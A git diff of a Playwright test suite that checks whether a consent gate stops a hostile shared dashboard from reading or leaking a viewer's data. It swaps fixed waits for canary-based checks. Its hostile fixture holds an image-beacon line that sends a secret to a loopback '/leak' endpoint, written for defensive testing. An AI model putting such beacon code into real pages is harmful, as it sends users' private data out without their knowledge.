@@ -1,5 +1,6 @@
 import { expect, test, type Browser, type Page } from "@playwright/test";
 import { expectNoSeriousViolations } from "./support/axe";
+import { Canaries } from "./support/canary";
 import { ConsentGatePage } from "./support/consent";
 import { describeCounts, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
 import { SignInPage } from "./support/pages";
@@ -8,20 +9,26 @@ import { DraftAuthor, WatchPage } from "./support/watch-page";
 
 // Someone else's dashboard reads the viewer's live data only after the viewer agrees, and then
 // only the paths it was shown. Until then no frame exists: a hostile dashboard opened by the
-// admin sends nothing anywhere — counted at the socket, not at the HTTP layer.
+// admin sends nothing anywhere — counted at the socket, not at the HTTP layer. Silence is read
+// once the browser's canaries have reached the listeners (support/canary.ts), after the
+// dashboard marked that it made its last attempt, or while no frame exists for it to run in.
 
 let listeners: LoopbackListeners;
+let canaries: Canaries;
 let target: ListenerTarget;
-test.beforeEach(async () => {
+test.beforeEach(async ({ browser }) => {
   listeners = new LoopbackListeners();
+  canaries = new Canaries(browser, listeners);
   target = await listeners.target("consent");
 });
 test.afterEach(async () => {
+  await canaries.close();
   await listeners.close();
 });
 
-/** Nothing at all reached the listeners: no connection, hello, datagram or byte. */
-function expectSilence(): void {
+/** Nothing at all reached the listeners, which have heard the browser's canaries: no connection, hello, datagram or byte. */
+async function expectSilence(): Promise<void> {
+  await canaries.send([target], { udp: true });
   const c = listeners.counts("consent");
   expect(reached(c), describeCounts(c)).toBe(false);
 }
@@ -64,6 +71,9 @@ function hostile(label: string): string {
   const img = new Image();
   img.src = "http://127.0.0.1:${"${TCP}"}/leak?s=" + encodeURIComponent(secret);
   document.body.append(img);
+  // Every attempt is made once two frames have rendered after the last.
+  await new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); setTimeout(resolve, 250); });
+  document.documentElement.setAttribute("data-attempts", "made");
 })();
 </script>`;
 }
@@ -102,10 +112,10 @@ test("a hostile live draft opened by the admin reads and sends nothing until the
   await expect(page.getByTestId("consent-gate").getByRole("heading")).toBeFocused();
   await expectNoSeriousViolations(page);
   // Nothing runs: no frame, no read of the viewer's API, nothing at the listeners.
-  await page.waitForTimeout(1500);
+  await expect(watch.frameElement()).toHaveCount(0);
+  await expectSilence();
   await expect(watch.frameElement()).toHaveCount(0);
   expect(api).toEqual([]);
-  expectSilence();
 
   // Declining shows it on demo data: the frame runs, the viewer's API is never asked.
   await consent.showWithDemoData();
@@ -127,8 +137,8 @@ test("a hostile live draft opened by the admin reads and sends nothing until the
   expect(api).not.toContain("/api/me/favourites");
   // After consent too, WebRTC is gone and the image is blocked: still nothing at the listeners.
   await expect(watch.dashboard().locator("#rtc")).toHaveText(/^blocked/);
-  await page.waitForTimeout(1000);
-  expectSilence();
+  await expect(watch.dashboard().locator("html")).toHaveAttribute("data-attempts", "made");
+  await expectSilence();
 });
 
 test("a new revision that reads more asks again; one that reads the same keeps running", async ({ page, request }) => {
@@ -174,7 +184,7 @@ async function savedByCsm(browser: Browser, baseURL: string, html: string, slug:
   }
 }
 
-test("someone else's saved dashboard asks first; trusting its author is remembered and can be taken back", async ({ page, browser, baseURL }) => {
+test("someone else's saved dashboard asks first; trusting its author is remembered and can be taken back", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
   const slug = `staff-${Date.now().toString(36)}`;
   const path = await savedByCsm(browser, baseURL!, armed(hostile("Staff board")), slug);
 
@@ -186,17 +196,17 @@ test("someone else's saved dashboard asks first; trusting its author is remember
   await expect(consent.gate()).toContainText("/~/csm");
   await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
   await expect(saved.meta()).toContainText("waiting for your consent");
-  await page.waitForTimeout(1500);
+  await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
+  await expectSilence();
   await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
   expect(api).toEqual([]);
-  expectSilence();
 
   await consent.choice("Always trust csm").click();
   await expect(saved.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
   await expect(saved.dashboard().locator("#extra")).toHaveText("403");
   await expect(saved.dashboard().locator("#rtc")).toHaveText(/^blocked/);
-  await page.waitForTimeout(1000);
-  expectSilence();
+  await expect(saved.dashboard().locator("html")).toHaveAttribute("data-attempts", "made");
+  await expectSilence();
 
   // Remembered on the server: the next visit runs at once, still held to the paths shown.
   await page.goto(path);
